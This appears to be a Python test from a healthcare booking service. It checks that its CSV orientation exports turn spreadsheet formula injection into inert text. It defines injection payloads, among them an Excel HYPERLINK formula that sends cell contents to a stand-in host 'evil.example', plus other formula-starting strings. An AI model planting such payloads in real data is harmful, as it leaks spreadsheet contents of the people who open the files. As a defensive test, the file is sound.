"""CSV formula injection (issue 15, point 2): a regulator's name (from his token) and a practice place's
address (from the directory or a vendor) that start with a formula reach the orientation exports through
the real booking path; both exports (API and web dashboard) must hand them to Excel as inert text."""

from __future__ import annotations

import csv
import io
import uuid

from mappings.common import GeoPoint
from mappings.offers import OfferAddress, OfferDoc, OfferSas
from mappings.registry import alias_name
from sas_core.text import fold

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dossier")'
EVIL_ADDRESS = '=HYPERLINK("http://evil.example/","12 rue du Port, 92000 Nanterre")'
OTHER_STARTS = ["+SUM(1,2)", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


def _offer(offer_id: str) -> dict:
    return OfferDoc(
        id=offer_id, kind="ps", national_id="810009990077", national_id_type="rpps", last_name="FORMULE",
        first_name="Zoé", name="Zoé FORMULE", name_folded=fold("Zoé FORMULE"), profession_code="10",
        specialties=["SM54"], specialty_labels=["Médecine générale"],
        address=OfferAddress(line="12 rue du Port", postcode="92000", city="Nanterre", city_folded="nanterre",
                             text=EVIL_ADDRESS),
        departement="92", territory="SAS-92", location=GeoPoint(lat=48.89, lon=2.20), phones=["+33100000077"],
        sas=OfferSas(participates=True, accepts_beyond=True, beyond_phone="+33100000078"), source="rpps",
    ).model_dump(mode="json")


def _rows(text: str, marker: str) -> list[dict]:
    reader = csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
    return [row for row in reader if marker in (row["régulateur"] or "")]


def test_exports_neutralise_formula_cells(api, es, settings, token_for):
    offer_id = f"csv-injection-{uuid.uuid4().hex[:8]}"
    es.index(index=alias_name(settings.index_prefix, "offers"), id=offer_id, document=_offer(offer_id), refresh=True)
    regulator = token_for("regulator", territories=["SAS-92"], sub=f"csv-reg-{uuid.uuid4().hex[:8]}",
                          name=EVIL_NAME)
    booked = api.post("/v1/bookings/beyond", json={"offer_id": offer_id},
                      headers={**regulator, "Idempotency-Key": uuid.uuid4().hex})
    assert booked.status_code == 201, booked.text
    for value in OTHER_STARTS:   # the other characters that start a formula, as names of other regulators
        other = token_for("regulator", territories=["SAS-92"], sub=f"csv-reg-{uuid.uuid4().hex[:8]}", name=value)
        assert api.post("/v1/bookings/beyond", json={"offer_id": offer_id},
                        headers={**other, "Idempotency-Key": uuid.uuid4().hex}).status_code == 201

    for path in ("/v1/orientations/export.csv", "/app/tableaux/orientations.csv"):
        answer = api.get(path, headers=regulator)
        assert answer.status_code == 200, (path, answer.text[:200])
        rows = _rows(answer.text, "HYPERLINK")
        assert len(rows) == 1, (path, answer.text[:500])
        assert rows[0]["régulateur"] == "'" + EVIL_NAME, path        # shown as text, never evaluated
        assert rows[0]["adresse"] == "'" + EVIL_ADDRESS, path
        cells = [cell for line in csv.reader(io.StringIO(answer.text.lstrip("\ufeff")), delimiter=";")
                 for cell in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path
        for value in OTHER_STARTS:
            assert "'" + value in cells, (path, value)
